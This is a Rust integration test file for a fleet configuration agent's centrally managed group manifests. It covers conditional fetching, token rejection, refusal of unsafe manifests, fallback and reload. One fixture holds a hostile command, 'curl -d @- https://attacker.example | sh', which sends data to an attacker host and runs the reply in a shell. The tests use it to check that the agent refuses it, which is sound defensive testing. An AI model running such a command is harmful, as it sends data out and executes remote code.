//! Central manifests: a group's machines run the manifest the server holds
//! for the group, fetched conditionally; a manifest that would run programs
//! or unpinned plugins on the machine is refused and the machine keeps what
//! it runs; taking the manifest away gives the machine its own back; a
//! running agent applies a new manifest as a reload.

use crate::postgres::Postgres;
use crate::support::*;

/// The machine's own manifest: packages and one file.
const LOCAL: &str = r#"
[[collector]]
name = "dpkg"
kind = "packages"
plugin = "packages-dpkg"
grants = ["/var/lib/dpkg"]

[[collector]]
name = "app"
kind = "files"
plugin = "files-posix"
  [[collector.paths]]
  path = "/etc/app.conf"
"#;

/// The group's manifest: configuration files only.
const GROUP: &str = r#"
[[collector]]
name = "etc-conf"
kind = "files"
plugin = "files-posix"
  [[collector.paths]]
  path = "/etc/*.conf"

[[alert]]
name = "config-changed"
query = "ConfigurationChange | where ConfigChangeType == 'Files'"
  [[alert.action]]
  type = "log"
"#;

const EXEC: &str = r#"
[[alert]]
name = "page"
query = "ConfigurationChange"
  [[alert.action]]
  type = "exec"
  shell = true
  command = "curl -d @- https://attacker.example | sh"
"#;

fn machine(name: &str) -> Machine {
    let machine = Machine::new(name).with_manifest(LOCAL);
    machine.write("etc/hostname", format!("{name}\n"));
    machine.write(
        "var/lib/dpkg/status",
        "Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2-1\n\n",
    );
    machine.write("etc/app.conf", "port = 80\n");
    machine.write("etc/db.conf", "host = db\n");
    machine
}

/// Scans; what it said on stderr about the server's manifest.
fn scan(machine: &Machine) -> String {
    let output = machine.run(&["scan"]);
    assert!(output.status.success(), "{}{}", stdout(&output), stderr(&output));
    stderr(&output)
}

fn collectors(machine: &Machine) -> Vec<String> {
    let mut names: Vec<String> = machine
        .query("ConfigurationData | distinct Collector")
        .iter()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["Collector"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    names.sort();
    names
}

fn set(database: &str, group: &str, text: &str) {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), text).unwrap();
    let output = server_command(database, &["manifests", "set", group, file.path().to_str().unwrap()]);
    assert!(output.status.success(), "{}", stderr(&output));
}

#[test]
fn a_group_runs_the_servers_manifest_and_refuses_a_harmful_one() {
    let postgres = Postgres::start();
    let database = postgres.new_database("fleet");
    let server = Server::start(&database, None);
    let secret = new_secret(&database, &["--group", "web"]);
    let web = machine("web-1");
    web.enroll(&server.url, &secret);
    scan(&web);
    assert_eq!(collectors(&web), ["app", "dpkg"]);

    // The group gets a manifest: the next scan runs it instead of its own.
    set(&database, "web", GROUP);
    let said = scan(&web);
    assert!(
        said.contains("Running the manifest of group web from the fleet server"),
        "{said}"
    );
    assert_eq!(collectors(&web), ["etc-conf"]);
    assert_eq!(web.query("ConfigurationData | project FileSystemPath").len(), 2);
    let status = stdout(&web.run(&["status"]));
    assert!(
        status.contains("manifest of group web from the fleet server"),
        "{status}"
    );
    // The server has what the agent has.
    let on_server = server_command(
        &database,
        &["query", "ConfigurationData | distinct Collector", "--json"],
    );
    assert_eq!(stdout(&on_server).trim(), r#"{"Collector":"etc-conf"}"#);

    // Conditional requests: unchanged → 304; API tokens cannot fetch it.
    let credential = web.credential();
    let first = request("GET", server.address(), "/v1/manifest", &credential, &[], b"");
    assert_eq!(first.status, 200);
    assert_eq!(first.body, GROUP);
    assert_eq!(first.header("x-driftwatch-group"), Some("web"));
    let etag = first.header("etag").unwrap().to_string();
    let again = request(
        "GET",
        server.address(),
        "/v1/manifest",
        &credential,
        &[("If-None-Match", &etag)],
        b"",
    );
    assert_eq!((again.status, again.body.as_str()), (304, ""));
    let token = stdout(&server_command(&database, &["token", "new", "reader"]))
        .trim()
        .to_string();
    assert_eq!(
        request("GET", server.address(), "/v1/manifest", &token, &[], b"").status,
        401
    );

    // A manifest that would run a shell line on the machine: refused, once;
    // the machine keeps running the group's previous manifest.
    set(&database, "web", &format!("{GROUP}{EXEC}"));
    let said = scan(&web);
    assert!(said.contains("refused the fleet server's manifest"), "{said}");
    assert!(said.contains("alert `page` has an exec action"), "{said}");
    assert_eq!(collectors(&web), ["etc-conf"]);
    let said = scan(&web);
    assert!(
        !said.contains("refused"),
        "asked again conditionally, not refused again: {said}"
    );
    // A plugin file that the machine has not pinned: refused.
    let plugin = web.agent.dir.path().join("custom.wasm");
    std::fs::write(&plugin, b"\0asm").unwrap();
    set(
        &database,
        "web",
        &format!(
            "{GROUP}\n[[collector]]\nname = \"custom\"\nkind = \"files\"\nplugin = '{}'\n",
            plugin.display()
        ),
    );
    let said = scan(&web);
    assert!(said.contains("does not pin in [fleet] plugin_sha256"), "{said}");
    assert_eq!(collectors(&web), ["etc-conf"]);

    // Taken away: the machine runs its own again.
    let output = server_command(&database, &["manifests", "unset", "web"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let said = scan(&web);
    assert!(said.contains("no manifest for this machine any more"), "{said}");
    assert_eq!(collectors(&web), ["app", "dpkg"]);
    assert!(
        stdout(&server_command(&database, &["manifests", "list"]))
            .lines()
            .count()
            == 1
    );
    drop(server);
}

#[test]
fn a_machine_runs_the_manifest_of_its_own_group_only() {
    let postgres = Postgres::start();
    let database = postgres.new_database("fleet");
    let server = Server::start(&database, None);
    set(&database, "web", GROUP);
    let web = machine("web-3");
    web.enroll(&server.url, &new_secret(&database, &["--group", "web"]));
    let db = machine("db-1");
    db.enroll(&server.url, &new_secret(&database, &["--group", "db"]));
    let lone = machine("lone-1");
    lone.enroll(&server.url, &new_secret(&database, &[]));
    for machine in [&web, &db, &lone] {
        scan(machine);
    }
    assert_eq!(collectors(&web), ["etc-conf"]);
    assert_eq!(collectors(&db), ["app", "dpkg"]);
    assert_eq!(collectors(&lone), ["app", "dpkg"]);
    // Joining the group later brings its manifest.
    let joined = server_command(&database, &["machines", "join", "lone-1", "web"]);
    assert!(joined.status.success(), "{}", stderr(&joined));
    assert!(scan(&lone).contains("Running the manifest of group web"));
    assert_eq!(collectors(&lone), ["etc-conf"]);
    drop(server);
}

#[test]
fn a_running_agent_applies_its_groups_manifest_as_a_reload() {
    let postgres = Postgres::start();
    let database = postgres.new_database("fleet");
    let server = Server::start(&database, None);
    let secret = new_secret(&database, &["--group", "web"]);
    let web = machine("web-2");
    web.enroll(&server.url, &secret);
    set(&database, "web", GROUP);

    let agent = RunningAgent::start(&web);
    let wait_for = |what: &str, check: &dyn Fn(&str) -> bool| agent.wait_for(60, what, || check(&agent.log()));
    // At start it asks at once, applies the group's manifest and reloads.
    wait_for("the group's manifest", &|log| {
        log.contains("of group web from the fleet server: applied")
            && log.contains("manifest reloaded from <manifest of group web from the fleet server>")
    });
    // A new version, and a nudge (SIGHUP) instead of a minute's wait: applied again.
    set(&database, "web", &GROUP.replace("/etc/*.conf", "/etc/app.conf"));
    agent.signal("HUP");
    wait_for("the new version", &|log| {
        log.matches("from the fleet server: applied").count() == 2
    });
    // A harmful one is refused; the agent keeps running.
    set(&database, "web", &format!("{GROUP}{EXEC}"));
    agent.signal("HUP");
    wait_for("the refusal", &|log| {
        log.contains("refused the fleet server's manifest")
    });
    let (exit, log) = agent.stop();
    assert_eq!(exit.code(), Some(0), "{log}");
    assert_eq!(log.matches("from the fleet server: applied").count(), 2, "{log}");
    drop(server);
}
